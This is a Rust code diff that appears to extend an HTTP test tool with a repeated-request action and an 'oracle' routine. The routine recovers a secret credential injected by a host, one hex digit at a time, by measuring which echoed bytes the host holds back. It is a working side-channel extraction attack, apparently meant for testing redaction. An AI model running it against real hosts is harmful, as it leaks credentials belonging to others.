@@ -89,6 +89,13 @@ fn act(args: &[&str]) -> Result<(), Failure> {
             println!("{trailers:?}");
             Ok(())
         }
+        ["oracle", url] => oracle(url),
+        ["heads", url, count] => {
+            for _ in 0..number::<usize>(count)? {
+                Request::new("GET", url, &[])?.send(None)?.wait()?.keep_headers();
+            }
+            Ok(())
+        }
         ["flood", what] => floods::act(what),
         _ => Err("no such action".to_owned()),
     }
@@ -117,6 +124,57 @@ fn many(url: &str, count: usize) -> Result<(), Failure> {
         }
     }
     println!("{} answered", answers.len());
+    Ok(())
+}
+
+/// Guesses the credential that the host adds, by an honest server that sends back each piece of the body as it comes: the
+/// host holds back what may begin a spelling of the secret, and so tells whether a guess is the beginning of one. The
+/// spelling in hexadecimal tells each byte.
+fn oracle(url: &str) -> Result<(), Failure> {
+    const DIGITS: &[u8; 16] = b"0123456789abcdef";
+    let request = Request::new("POST", url, &[])?;
+    let mut body = request.body()?.into_stream()?;
+    let pending = request.send(None)?;
+    body.send(b"!")?;
+    let mut echo = pending.wait()?.into_stream()?;
+    let (mut sent, mut received) = (1, echo.more()?);
+    // The digits that are known, and for each the next one to try.
+    let mut known: Vec<u8> = Vec::new();
+    let mut next = vec![0_usize];
+    let mut best = Vec::new();
+    let mut asked = 0;
+    while let Some(at) = next.last_mut() {
+        let Some(digit) = DIGITS.get(*at) else {
+            next.pop();
+            known.pop();
+            continue;
+        };
+        *at += 1;
+        known.push(*digit);
+        let guess = [b"!", known.as_slice()].concat();
+        asked += 1;
+        sent += guess.len();
+        let came = body.send(&guess).and_then(|()| echo.more());
+        match came {
+            Ok(more) => received += more,
+            // The whole secret in hexadecimal: the response is withheld.
+            Err(_) => {
+                best = known;
+                break;
+            }
+        }
+        // All of the guess is held back: it is the beginning of a spelling.
+        if sent - received == known.len() {
+            next.push(0);
+            if known.len() > best.len() {
+                best = known.clone();
+            }
+        } else {
+            known.pop();
+        }
+    }
+    let text = String::from_utf8_lossy(&best).into_owned();
+    println!("{asked} guesses: {text}");
     Ok(())
 }
 
